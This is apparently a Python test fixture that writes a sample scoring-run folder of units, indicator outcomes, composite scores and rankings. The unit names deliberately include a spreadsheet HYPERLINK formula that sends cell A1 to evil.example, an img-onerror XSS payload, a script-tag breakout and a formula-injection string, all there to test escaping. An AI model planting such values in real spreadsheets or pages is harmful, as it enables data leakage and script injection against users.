"""Write a small but rich run folder, as the pipeline would, for tests.

Three categories, every outcome, every status of a total, two periods, ties,
and names that try to break spreadsheets, pages and file systems. The totals
follow from the scores by the same rules as in `core/scoring` (arithmetic
means, weight redistributed within group, dimension, all), on dictionaries.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pyarrow as pa
from pyarrow import parquet
from sample_findings import sample_findings
from sample_manifest import sample_manifest
from sample_scheme import CAPPED, DATASETS, INDICATORS, SCHEME, WITHHELD

from quanheng.core.model.indicator import Indicator
from quanheng.core.model.scheme import Scheme
from quanheng.core.results import tables

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
IMAGE = '<img src=x onerror="alert(1)">'
LONG = "超长单位名称" * 50
FIRST_TWIN = "示范市人力资源和社会保障局劳动保障监察综合执法支队机关党委第一办公室甲"
SECOND_TWIN = "示范市人力资源和社会保障局劳动保障监察综合执法支队机关党委第一办公室乙"

UNITS: list[tuple[str, str, str, str]] = [
    ("114203000000000001", "市教育局", "management", "evaluated"),
    ("M02", HYPERLINK, "management", "evaluated"),
    ("M03", IMAGE, "management", "evaluated"),
    ("M04", "排名", "management", "evaluated"),
    ("M05", FIRST_TWIN, "management", "evaluated"),
    ("M06", SECOND_TWIN, "management", "evaluated"),
    ("S01", "12345 热线中心 😀👩‍👩‍👧", "service", "evaluated"),
    ("S02", LONG, "service", "evaluated"),
    ("S03", "一/二\\三:四*五?六[七]", "service", "evaluated"),
    ("S04", "History", "service", "evaluated"),
    ("S05", "'@SUM(1+1)'", "service", "evaluated"),
    ("S06", "Office", "service", "evaluated"),
    ("-007", "OFFICE", "development", "evaluated"),
    ("D02", "</script><b>甲\n乙</b>", "development", "evaluated"),
    ("P01", "邻市教育局", "management", "peer"),
]
"""unit_id, name, category, role; all of level `county`."""

ROLES = {unit: role for unit, _, _, role in UNITS}

CHANGES: dict[tuple[str, str, str], tuple[str, str, str]] = {
    ("2024", "M02", "closed_share"): ("missing", "应报未报:来源 cases 未覆盖本单位", "rows are owed: source cases does not cover this unit"),
    ("2024", "M03", "median_days"): ("error", "公式出错:数值超过 38 位", "the formula failed: more than 38 digits"),
    ("2024", "M04", "night_share"): ("too_few", "样本 3 少于下限 5", "a sample of 3 is under the minimum of 5"),
    ("2024", "M05", "cost_per_case"): ("not_applicable", "本期没有工单", "no cases in this period"),
    ("2024", "M06", "cost_per_case"): ("not_applicable", "本期没有工单", "no cases in this period"),
    ("2024", "S01", "visit_level"): ("suppressed", "人数太少,不予显示", "too few persons to show"),
    ("2024", "S02", "closed_share"): ("not_applicable", "不承担该职能", "does not have this duty"),
    ("2024", "S02", "median_days"): ("not_applicable", "不承担该职能", "does not have this duty"),
    ("2024", "S06", "audit_points"): ("not_applicable", "本期未审计", "no audit in this period"),
    ("2024", "S06", "visit_level"): ("suppressed", "人数太少,不予显示", "too few persons to show"),
    ("2023", "S06", "night_share"): ("missing", "应报未报", "rows are owed"),
    ("2023", "D02", "audit_points"): ("missing", "应报未报", "rows are owed"),
}  # fmt: skip
"""Outcomes other than `ok`, with their reasons; all of D02 in 2024 is not applicable."""

TAGS = ("execution", "benefit", "reference")
ALTERNATIVES = ("not_applicable", "too_few")
PERIODS = ("2023", "2024")

Row = dict[str, Any]


def _value(indicator: str, unit: int, period: str) -> float:
    # The fifth and sixth unit (from 1) are alike, so that there is a tie.
    seed = (unit if unit != 5 else 4) * 7 + (3 if period == "2024" else 0)
    spread = (seed * 37 % 101) / 100
    return {
        "closed_share": 55 + 45 * spread,
        "median_days": 1 + 40 * (1 - spread) / 3,
        "night_share": 100 * spread,
        "cost_per_case": 100 + 1000 * spread / 7,
        "staff_filled": 70 + 45 * spread,
        "cases_per_head": 12.5 + unit,
        "audit_points": float(seed % 4),
        "visit_level": float(seed % 3),
    }[indicator]


def _score(indicator: str, value: float) -> float | None:
    def within(score: float) -> float:
        return min(100.0, max(0.0, score))

    if indicator == "closed_share":
        return within(100 * (value - 60) / 38)
    if indicator == "median_days":
        return within(100 * (30 - value) / 27)
    if indicator == "night_share":
        return 100.0 if value >= 60 else 70.0 if value >= 20 else 0.0
    if indicator == "cost_per_case":
        return within(100 - (value - 100) / 3)
    if indicator == "staff_filled":
        low, high = (value - 60) / 25, (120 - value) / 20
        return within(100 * min(low, high, 1))
    if indicator == "audit_points":
        return within(100 - 15 * value)
    if indicator == "visit_level":
        return (0.0, 60.0, 100.0)[int(value)]
    return None


def _weight(weights: dict[str, Any], category: str) -> float:
    return float(weights.get(category, weights.get("*", 0)))


def _indicator_rows(scheme: Scheme, period: str) -> list[Row]:
    rows = []
    for position, (unit, _, category, _) in enumerate(UNITS):
        for _, _, placement in scheme.placements:
            idle = ("not_applicable", "本期未设立", "did not exist in this period")
            given = CHANGES.get((period, unit, placement.id))
            outcome, zh, en = idle if (period, unit) == ("2024", "D02") else given or ("ok", None, None)
            value = _value(placement.id, position, period)
            of_parts = placement.id in ("closed_share", "night_share") and outcome in ("ok", "too_few")
            denominator = (3.0 if outcome == "too_few" else 240.0 + position) if of_parts else None
            share = value if outcome == "ok" else 100 / 3
            rows.append(
                {
                    "period": period,
                    "unit_id": unit,
                    "indicator": placement.id,
                    "outcome": outcome,
                    "reason_zh": zh,
                    "reason_en": en,
                    "sample": denominator,
                    "numerator": denominator * share / 100 if denominator is not None else None,
                    "denominator": denominator,
                    "value": value if outcome == "ok" else None,
                    "score": _score(placement.id, value) if outcome == "ok" else None,
                    "weight": _weight(placement.weight, category),
                    "weight_used": None,
                    "points": None,
                    "hidden": _score(placement.id, value) if outcome == "suppressed" else None,
                }
            )
    return rows


def _bounds(row: Row) -> tuple[float, float]:
    if row["outcome"] in ("missing", "error"):
        return 0.0, 100.0
    score = row["hidden"] if row["outcome"] == "suppressed" else row["score"]
    return score, score


def _mean(children: list[tuple[float, tuple[float, float]]]) -> tuple[float, float]:
    whole = sum(weight for weight, _ in children)
    return (
        sum(weight * low for weight, (low, _) in children) / whole,
        sum(weight * high for weight, (_, high) in children) / whole,
    )


def _applying(rows: list[Row]) -> list[Row]:
    return [row for row in rows if row["weight"] and row["outcome"] not in ALTERNATIVES]


def _node(unit: str, period: str, node: str, level: str, rows: list[Row], bounds: Any) -> Row:
    applying, whole = _applying(rows), sum(row["weight"] for row in rows)
    coverage = 100 * sum(row["weight"] for row in applying) / whole if whole else None
    low, high = bounds or (None, None)
    status = "final"
    if node == "reference":
        status = "unscored"
    elif not applying:
        status = "not_applicable"
    elif all(row["outcome"] == "suppressed" for row in applying):
        status = "suppressed"
    elif coverage is not None and coverage < 60:
        status = "insufficient"
    elif level == "total" and (period, unit) == WITHHELD:
        status = "withheld"
    elif any(row["outcome"] in ("missing", "error") for row in applying):
        status = "provisional"
    shown = status in ("final", "provisional")
    return {
        "period": period,
        "unit_id": unit,
        "node": node,
        "level": level,
        "score": low if status == "final" else None,
        "score_low": low if shown else None,
        "score_high": high if shown else None,
        "weight": whole,
        "coverage": coverage,
        "status": status,
    }


def _composites(scheme: Scheme, period: str, unit: str, rows: list[Row]) -> list[Row]:
    by_id = {row["indicator"]: row for row in rows}
    tags = {given["id"]: given.get("tag", "benefit") for given in INDICATORS}
    made: list[Row] = []
    dimensions = []
    for dimension in scheme.dimensions:
        groups = []
        for group in dimension.groups:
            own = [by_id[placement.id] for placement in group.indicators]
            inner = [(row["weight"], _bounds(row)) for row in _applying(own)]
            bounds = _mean(inner) if inner else None
            made.append(_node(unit, period, group.id, "group", own, bounds))
            if bounds:
                groups.append((sum(row["weight"] for row in own), bounds, own))
        own = [by_id[p.id] for group in dimension.groups for p in group.indicators]
        bounds = _mean([(weight, both) for weight, both, _ in groups]) if groups else None
        made.append(_node(unit, period, dimension.id, "dimension", own, bounds))
        if bounds:
            dimensions.append((sum(row["weight"] for row in own), bounds, groups))
    whole = sum(weight for weight, _, _ in dimensions)
    for weight, _, groups in dimensions:
        of_groups = sum(share for share, _, _ in groups)
        for share, _, own in groups:
            applying = _applying(own)
            for row in applying:
                inner_weight = row["weight"] / sum(other["weight"] for other in applying)
                row["weight_used"] = 100 * weight / whole * share / of_groups * inner_weight
                if row["score"] is not None:
                    row["points"] = row["score"] * row["weight_used"] / 100
    for tag in TAGS:
        own = [row for row in rows if tags[row["indicator"]] == tag]
        inner = [(row["weight"], _bounds(row)) for row in _applying(own)]
        made.append(_node(unit, period, tag, "tag", own, _mean(inner) if inner else None))
    bounds = _mean([(weight, both) for weight, both, _ in dimensions]) if dimensions else None
    made.append(_node(unit, period, "total", "total", rows, bounds))
    return made[-1:] + made[:-1]


def _grade(scheme: Scheme, total: Row) -> tuple[str | None, str | None, str | None]:
    if total["status"] == "provisional":
        return None, "有缺失,暂不评等次", "something is missing, so no grade yet"
    if total["status"] == "insufficient":
        return None, "数据不足", "too little applies"
    if total["status"] == "withheld":
        return None, "触发否决与封顶条件“举报查实”,不予公布", "withheld by the gate 'Report confirmed'"
    if total["score"] is None or scheme.grading is None:
        return None, "不适用", "not applicable"
    grade = next(g.id for g in scheme.grading.grades if round(total["score"], 2) >= float(g.at))
    if (total["period"], total["unit_id"]) == CAPPED:
        return "fair", "审计问题过多,最高为合格", "too many audit points: at most fair"
    return grade, None, None


def _ranking(scheme: Scheme, totals: list[Row]) -> list[Row]:
    rows = []
    for unit, _, category, role in UNITS:
        total = next(row for row in totals if row["unit_id"] == unit)
        grade, zh, en = _grade(scheme, total)
        if role == "evaluated":
            kept = {
                key: total[key] for key in ("period", "unit_id", "score", "score_low", "score_high", "status")
            }
            rows.append(
                kept
                | {
                    "category": category,
                    "level": "county",
                    "grade": grade,
                    "grade_reason_zh": zh,
                    "grade_reason_en": en,
                }
            )
    for row in rows:
        rivals = [
            other for other in rows if other["category"] == row["category"] and other["score_low"] is not None
        ]
        ranked = row["score_low"] is not None and len(rivals) >= 5

        def above(bound: str, mine: str, row: Row = row, rivals: list[Row] = rivals) -> float:
            return 1.0 + sum(
                round(other[bound], 2) > round(row[mine], 2) for other in rivals if other is not row
            )

        row["rank"] = above("score_low", "score_low") if ranked else None
        row["rank_low"] = above("score_low", "score_high") if ranked else None
        row["rank_high"] = above("score_high", "score_low") if ranked else None
        row["ranked"] = len(rivals)
    return rows


def _parts(rows: list[Row]) -> list[Row]:
    made = []
    for row in rows:
        if row["denominator"] is not None and row["outcome"] in ("ok", "too_few"):
            texts = {given["id"]: given for given in INDICATORS}[row["indicator"]]
            for part in ("numerator", "denominator"):
                made.append(
                    {
                        "period": row["period"],
                        "unit_id": row["unit_id"],
                        "indicator": row["indicator"],
                        "part": texts[part],
                        "numerator": None,
                        "denominator": None,
                        "value": row[part],
                    }
                )
        elif row["indicator"] == "cost_per_case" and row["value"] is not None:
            made.append(
                {
                    "period": row["period"],
                    "unit_id": row["unit_id"],
                    "indicator": row["indicator"],
                    "part": "avg(case.cost)",
                    "numerator": row["value"] * 240,
                    "denominator": 240.0,
                    "value": row["value"],
                }
            )
    return made


def write_sample_run(folder: Path, *, language: str = "zh", panel: bool = True) -> Path:
    """Write `run.json` and the six tables into `folder`, and return it."""
    scheme = Scheme.model_validate(SCHEME | {"datasets": DATASETS, "indicators": INDICATORS})
    assert all(isinstance(indicator, Indicator) for indicator in scheme.indicators)
    folder.mkdir(parents=True, exist_ok=True)
    periods = PERIODS if panel else PERIODS[1:]
    made: dict[str, list[Row]] = {
        name: [] for name in ("indicators", "parts", "composites", "ranking", "findings")
    }
    for period in periods:
        rows = _indicator_rows(scheme, period)
        composites = []
        for unit, *_ in UNITS:
            composites += _composites(scheme, period, unit, [row for row in rows if row["unit_id"] == unit])
        made["indicators"] += rows
        made["parts"] += _parts(rows)
        made["composites"] += composites
        made["ranking"] += _ranking(scheme, [row for row in composites if row["level"] == "total"])
        judged = [row for row in rows if ROLES[row["unit_id"]] != "peer"]
        made["findings"] += sample_findings(judged, period)
    made["units"] = [
        {"unit_id": unit, "name": name, "parent": None if unit != "M06" else "M05", "category": category, "level": "county", "role": role}
        for unit, name, category, role in UNITS
    ]  # fmt: skip
    for name, rows in made.items():
        schema: pa.Schema = getattr(tables, name.upper())
        parquet.write_table(pa.Table.from_pylist(rows, schema=schema), folder / f"{name}.parquet")
    manifest = json.dumps(sample_manifest(scheme, language, periods), ensure_ascii=False, indent=1)
    (folder / "run.json").write_text(manifest, encoding="utf-8")
    return folder
